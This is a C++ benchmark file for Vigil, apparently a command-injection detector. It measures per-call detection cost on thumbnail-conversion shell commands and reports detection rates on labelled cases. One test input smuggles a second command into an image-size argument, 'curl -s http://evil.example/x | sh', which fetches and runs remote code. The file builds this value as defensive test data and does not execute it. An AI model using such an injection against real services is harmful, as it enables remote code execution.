// Copyright Vigil authors.
//
// vigil-bench-shell: the cost of the command-injection check for one
// command (agent/shell), and the detector's rates on the labelled cases.
//
// Scenarios: one typical command (about 200 bytes of shell text, as a
// service would pass to system() or popen()), checked against a request of
// 5, 20 or 50 inputs:
//   none     no input occurs in the command (the common case: nothing is
//            tokenized);
//   present  the service inserted two of the inputs, properly quoted
//            (tokenized, examined, benign);
//   attack   the last input is an injection the service inserted too.
// And one argv scenario (execve of "sh -c TEXT") with 20 inputs and an
// attack.
//
// Defaults: 10 repetitions, aggregates only; the summary at the end gives
// each scenario's median per call against the 1 µs target. Any Google
// Benchmark flag overrides the defaults.
#include <benchmark/benchmark.h>

#include <cstdio>
#include <map>
#include <string>
#include <vector>

#include "case_file.h"
#include "shell/shell.h"

namespace {

using vigil::shell::DetectArgv;
using vigil::shell::DetectShell;
using vigil::shell::Finding;
using vigil::shell::Input;
using vigil::shell::Limits;
using vigil::shell::Verdict;

// Values of a typical request that the service does not put in commands.
const char* const kNoise[][2] = {
    {"header.user-agent",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/120.0.0.0 Safari/537.36"},
    {"header.accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
    {"header.accept-language", "en-US,en;q=0.9,fr;q=0.8"},
    {"header.accept-encoding", "gzip, deflate, br"},
    {"header.referer", "https://media.example.com/library?page=2&sort=date"},
    {"cookie.session", "9f2c4e7a1b3d5f60718293a4b5c6d7e8"},
    {"cookie.csrftoken", "Zx8vQ2mN4pL6rT1yU3wE5sD7fG9hJ0kA"},
    {"query.page", "2"},
    {"query.sort", "date"},
    {"query.lang", "fr-CA"},
    {"body.title", "Summer holidays"},
    {"body.description", "Pictures from the trip to the coast, day three"},
    {"body.tags", "beach,sunset,family"},
    {"header.x-request-id", "3f1e9c2a-77b4-4d0e-a8c5-0b6d2e9f1a47"},
};

constexpr const char* kFile = "IMG_2024-07-14 beach sunset.jpg";
constexpr const char* kSize = "640x480";
constexpr const char* kAttack = "640x480; curl -s http://evil.example/x | sh";

std::string Command(const std::string& file, const std::string& size) {
  return "/usr/bin/convert '/srv/media/uploads/" + file + "' -auto-orient -strip -resize " +
         size + " -quality 85 -define jpeg:extent=200kb '/srv/media/thumbs/" + file +
         "' 2>>/var/log/media/convert.log && chmod 0644 '/srv/media/thumbs/" + file + "'";
}

struct Scenario {
  std::string name;
  bool attack = false;
  bool argv = false;
  std::string command;
  std::vector<std::string> values;
  std::vector<std::string> sources;
  std::vector<Input> inputs;  // views of values/sources
  std::vector<std::string> argv_store;
  std::vector<std::string_view> argv_views;
};

Scenario Make(const std::string& kind, size_t n, bool argv) {
  Scenario s;
  s.name = std::string(argv ? "argv/" : "shell/") + kind + "/" + std::to_string(n);
  s.attack = kind == "attack";
  s.argv = argv;
  s.command = kind == "none" ? Command("a7f3.jpg", "320x240")
                             : Command(kFile, s.attack ? kAttack : kSize);
  for (size_t i = 0; s.values.size() + 2 < n; ++i) {
    const size_t k = i % (sizeof kNoise / sizeof kNoise[0]);
    s.sources.push_back(kNoise[k][0]);
    s.values.push_back(i < 14 ? std::string(kNoise[k][1])
                              : std::string(kNoise[k][1]) + "-" + std::to_string(i));
  }
  s.sources.push_back("body.file");
  s.values.push_back(kFile);
  s.sources.push_back("query.size");
  s.values.push_back(s.attack ? kAttack : kSize);
  for (size_t i = 0; i < s.values.size(); ++i) s.inputs.push_back({s.values[i], s.sources[i]});
  if (argv) {
    s.argv_store = {"/bin/sh", "-c", s.command};
    for (const std::string& a : s.argv_store) s.argv_views.push_back(a);
  }
  return s;
}

std::vector<Scenario> MakeScenarios() {
  std::vector<Scenario> out;
  for (const char* kind : {"none", "present", "attack"}) {
    for (size_t n : {5, 20, 50}) out.push_back(Make(kind, n, false));
  }
  out.push_back(Make("attack", 20, true));
  return out;
}

void BM_Detect(benchmark::State& state, const Scenario* s) {
  Finding f;
  const Verdict want = s->attack ? Verdict::kInjection : Verdict::kNoInjection;
  Verdict v = Verdict::kNoInjection;
  for (auto _ : state) {
    v = s->argv ? DetectArgv(s->argv_views, s->inputs, Limits(), &f)
                : DetectShell(s->command, s->inputs, Limits(), &f);
    benchmark::DoNotOptimize(v);
    benchmark::DoNotOptimize(f);
  }
  if (v != want) state.SkipWithError("unexpected verdict");
  state.counters["bytes"] = static_cast<double>(s->command.size());
}

// Detection rates on the labelled cases, as the test asserts them.
void PrintRates() {
  std::vector<vigil::shell::testing::LabelledCase> cases;
  std::string error;
  if (!vigil::shell::testing::LoadCases(VIGIL_SHELL_CASES_FILE, &cases, &error)) {
    std::printf("cases: %s\n", error.c_str());
    return;
  }
  int attacks = 0, detected = 0, benign = 0, flagged = 0;
  for (const auto& c : cases) {
    const Input inputs[] = {{c.input, "query.q"}};
    const std::vector<std::string_view> argv = c.ArgvViews();
    const Verdict v = c.sink == vigil::shell::testing::Sink::kShell
                          ? DetectShell(c.command, inputs, Limits(), nullptr)
                          : DetectArgv(argv, inputs, Limits(), nullptr);
    const bool hit = v == Verdict::kInjection;
    if (c.attack) {
      ++attacks;
      detected += hit;
    } else {
      ++benign;
      flagged += hit;
    }
  }
  std::printf("Labelled cases: %d/%d attacks detected, %d/%d benign flagged\n\n", detected,
              attacks, flagged, benign);
}

class SummaryReporter : public benchmark::ConsoleReporter {
 public:
  void ReportRuns(const std::vector<Run>& runs) override {
    for (const Run& r : runs) {
      const bool median = r.run_type == Run::RT_Aggregate && r.aggregate_name == "median";
      const bool single = r.run_type == Run::RT_Iteration && r.repetitions <= 1;
      if (median || single) medians_[r.run_name.function_name] = r.GetAdjustedCPUTime();
    }
    ConsoleReporter::ReportRuns(runs);
  }

  void PrintSummary(const std::vector<Scenario>& scenarios) const {
    std::printf("\nMedian CPU time per call (target: at most 1000 ns)\n");
    for (const Scenario& s : scenarios) {
      const auto it = medians_.find(s.name);
      if (it == medians_.end()) continue;
      std::printf("  %-22s %8.0f ns  %s\n", s.name.c_str(), it->second,
                  it->second <= 1000 ? "ok" : "OVER");
    }
  }

 private:
  std::map<std::string, double> medians_;
};

}  // namespace

int main(int argc, char** argv) {
  PrintRates();
  static const std::vector<Scenario> scenarios = MakeScenarios();
  for (const Scenario& s : scenarios) {
    benchmark::RegisterBenchmark(s.name.c_str(), BM_Detect, &s);
  }
  // Defaults first, so that the caller's flags win.
  std::vector<char*> args = {argv[0]};
  static char reps[] = "--benchmark_repetitions=10";
  static char aggregates[] = "--benchmark_report_aggregates_only=true";
  static char min_time[] = "--benchmark_min_time=" VIGIL_SHELL_BENCH_MIN_TIME;
  args.push_back(reps);
  args.push_back(aggregates);
  args.push_back(min_time);
  for (int i = 1; i < argc; ++i) args.push_back(argv[i]);
  int n = static_cast<int>(args.size());
  benchmark::Initialize(&n, args.data());
  if (benchmark::ReportUnrecognizedArguments(n, args.data())) return 1;
  SummaryReporter reporter;
  benchmark::RunSpecifiedBenchmarks(&reporter);
  reporter.PrintSummary(scenarios);
  benchmark::Shutdown();
  return 0;
}
